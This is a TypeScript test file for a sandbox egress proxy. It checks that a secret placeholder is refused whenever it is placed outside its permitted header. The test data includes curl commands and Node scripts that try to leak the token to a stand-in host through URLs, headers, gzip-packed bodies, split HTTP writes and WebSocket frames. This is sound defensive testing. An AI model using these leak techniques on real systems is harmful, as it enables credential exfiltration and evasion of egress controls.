/**
 * Threat 15: a placeholder that is cut, packed or sent where no secret goes. It is replaced or refused, and is never
 * forwarded, so no server learns which placeholder stands for which secret.
 */
import { expect, it } from "vitest";
import type { EgressRecord } from "../../src/contract/network/egress.ts";
import { expectDenied, script, shell } from "../support/network-ground.ts";
import { entry, grantedBox, mirrorEntry, onVault, requestsTo } from "../support/vault-ground.ts";

const box = "misplacing";
const manifest = [
  '[[network.rules]]\nhost = "other.test"\ninspect = true\n',
  mirrorEntry,
  entry(
    "narrow",
    "keys.test",
    'how = "header"\nheader = "X-Api-Key"\npaths = ["/header"]\nmethods = ["GET"]\nenv = "NARROW"',
  ),
].join("");

/** Parts of a request where a placeholder does not belong, as arguments of curl. */
const misplaced: readonly string[] = [
  '"https://mirror.test/$MIRROR_TOKEN"',
  '"https://mirror.test/a/$(printf %s $MIRROR_TOKEN | sed s/a/%61/)"',
  '"https://mirror.test/echo?x=$MIRROR_TOKEN"',
  '-H "X-Other: $MIRROR_TOKEN" https://mirror.test/echo',
  '-H "User-Agent: $MIRROR_TOKEN" https://mirror.test/echo',
  '-H "Authorization: Bearer x$MIRROR_TOKEN" https://mirror.test/echo',
  '-d "text $MIRROR_TOKEN text" https://mirror.test/echo',
  '--http1.1 -d "text $MIRROR_TOKEN text" https://mirror.test/echo',
  '-H "Content-Encoding: gzip" --data-binary @/tmp/packed https://mirror.test/echo',
  '-F "file=@/tmp/plain" https://mirror.test/echo',
  // The secret of another destination.
  '-H "Authorization: Bearer $NARROW" https://mirror.test/echo',
  '-H "X-Api-Key: $MIRROR_TOKEN" https://keys.test/header',
  // Another host, which is read.
  '-H "Authorization: Bearer $MIRROR_TOKEN" https://other.test/x',
  '--http1.1 -H "Authorization: Bearer $MIRROR_TOKEN" https://other.test/x',
  '-u "me:$MIRROR_TOKEN" https://other.test/x',
  '"https://other.test/x?token=$MIRROR_TOKEN"',
  '-d "$MIRROR_TOKEN" https://other.test/x',
  '-H "Content-Encoding: gzip" --data-binary @/tmp/packed https://other.test/x',
];

/** A body in two writes with the placeholder across them, over HTTP/1.1 or HTTP/2. */
const inPieces = (client: "https" | "http2", host: string): string => {
  const open =
    client === "https"
      ? `const request = require("node:https").request("https://${host}/echo", { method: "POST" }, (answer) => { status = answer.statusCode; answer.resume(); answer.on("close", end); });`
      : `const session = require("node:http2").connect("https://${host}"); session.on("error", end);
         const request = session.request({ ":method": "POST", ":path": "/echo" }); request.on("response", (headers) => { status = headers[":status"]; request.resume(); });`;
  return `let status = 0; const end = () => { console.log(JSON.stringify(status)); process.exit(0); };
    ${open} request.on("error", end); request.on("close", end);
    const token = process.env.MIRROR_TOKEN, cut = process.argv[1] === "no" ? 0 : 20;
    request.write("before " + token.slice(0, cut), () => setImmediate(() => { request.write(token.slice(cut, cut + 3)); setImmediate(() => request.end(token.slice(cut + 3))); }));`;
};

/** A frame of a WebSocket, masked as a client's must be. */
const inFrame = (host: string, text: string): string => `
  const tls = require("node:tls"), mask = Buffer.from([1, 2, 3, 4]), text = Buffer.from(${text});
  const frame = Buffer.concat([Buffer.from([0x81, 0x80 | text.length]), mask, text.map((byte, i) => byte ^ mask[i % 4])]);
  const socket = tls.connect(443, "${host}", { servername: "${host}" }, () =>
    socket.write("GET /socket HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n"));
  let said = "", isSent = false; const end = () => { console.log(JSON.stringify(said)); process.exit(0); };
  socket.on("data", (chunk) => { said += chunk.toString("latin1"); if (!isSent && said.includes("101")) { isSent = true; socket.write(frame); }
    if (said.includes("echo ")) end(); }).on("close", end).on("error", end);`;

onVault(
  "a placeholder",
  (ground) => {
    const refused = (expected: Partial<EgressRecord>, body: () => Promise<unknown>): Promise<void> =>
      expectDenied(ground.daemon, box, { reason: "secret_misplaced", ...expected }, body);

    it("is taken in its own header and in basic authentication, as the control", async () => {
      const { daemon, canary } = ground;
      for (const args of ['-H "Authorization: Bearer $MIRROR_TOKEN"', '-u "me:$MIRROR_TOKEN"', "-d body"]) {
        const { stdout } = await shell(
          daemon,
          box,
          `curl -sS --fail-with-body ${args} https://mirror.test/echo`,
        );
        expect(stdout, args).toContain("the end");
      }
      const sent = await requestsTo(ground, "mirror.test");
      expect(sent.map(({ headers }) => headers["authorization"])).toEqual(Array(3).fill(`Bearer ${canary}`));
    });

    it("is refused everywhere else, with one record each, and arrives nowhere", async () => {
      const { daemon } = ground;
      await shell(daemon, box, "printf 'x%sx' $MIRROR_TOKEN > /tmp/plain; gzip -c /tmp/plain > /tmp/packed");
      for (const args of misplaced)
        await refused({}, async () => {
          const answer = await shell(daemon, box, `curl -sS -w '\\n%{http_code}' ${args}`);
          expect(answer.stdout, args).toMatch(/"reason":"secret_misplaced"[\s\S]*\n403$/);
        });
      expect((await ground.network.arrivals()).filter(({ kind }) => kind === "http")).toEqual([]);
    });

    for (const client of ["https", "http2"] as const)
      it(`is seen across the pieces of a body (${client})`, async () => {
        const { daemon } = ground;
        for (const host of ["mirror.test", "other.test"]) {
          const clean = inPieces(client, host).replaceAll(
            "process.env.MIRROR_TOKEN",
            '"nothing-of-the-kind-in-it"',
          );
          expect(await script(daemon, box, clean), host).toBe(200);
          expect(await requestsTo(ground, host)).toHaveLength(1);
          await ground.network.forget();
          await refused({ host }, () => script(daemon, box, inPieces(client, host)));
          expect(await requestsTo(ground, host)).toEqual([]);
        }
      });

    it("is seen in what a WebSocket carries", async () => {
      const { daemon } = ground;
      for (const host of ["mirror.test", "other.test"]) {
        expect(await script<string>(daemon, box, inFrame(host, '"hello"'))).toContain("echo hello");
        await refused({ host }, async () => {
          const said = await script<string>(daemon, box, inFrame(host, "process.env.MIRROR_TOKEN"));
          expect(said).not.toContain("echo ");
        });
      }
    });

    it("of a place that is bound to a path and a method does not go beyond them", async () => {
      const { daemon } = ground;
      const curl = "curl -sS -w '%{http_code}' -H \"X-Api-Key: $NARROW\"";
      expect((await shell(daemon, box, `${curl} https://keys.test/header`)).stdout).toContain("welcome");
      for (const [args, reason] of [
        ["https://keys.test/query", /wrong_path|secret_misplaced/],
        ["-X DELETE https://keys.test/header", /wrong_method|secret_misplaced/],
        ["-H 'X-HTTP-Method-Override: DELETE' https://keys.test/header", /overridden/],
      ] as const)
        await expectDenied(daemon, box, { reason: expect.stringMatching(reason) as string }, () =>
          shell(daemon, box, `${curl} ${args}`),
        );
      expect(await requestsTo(ground, "keys.test")).toHaveLength(1);
    });
  },
  { prepare: ({ daemon }) => grantedBox(daemon, box, manifest) },
);
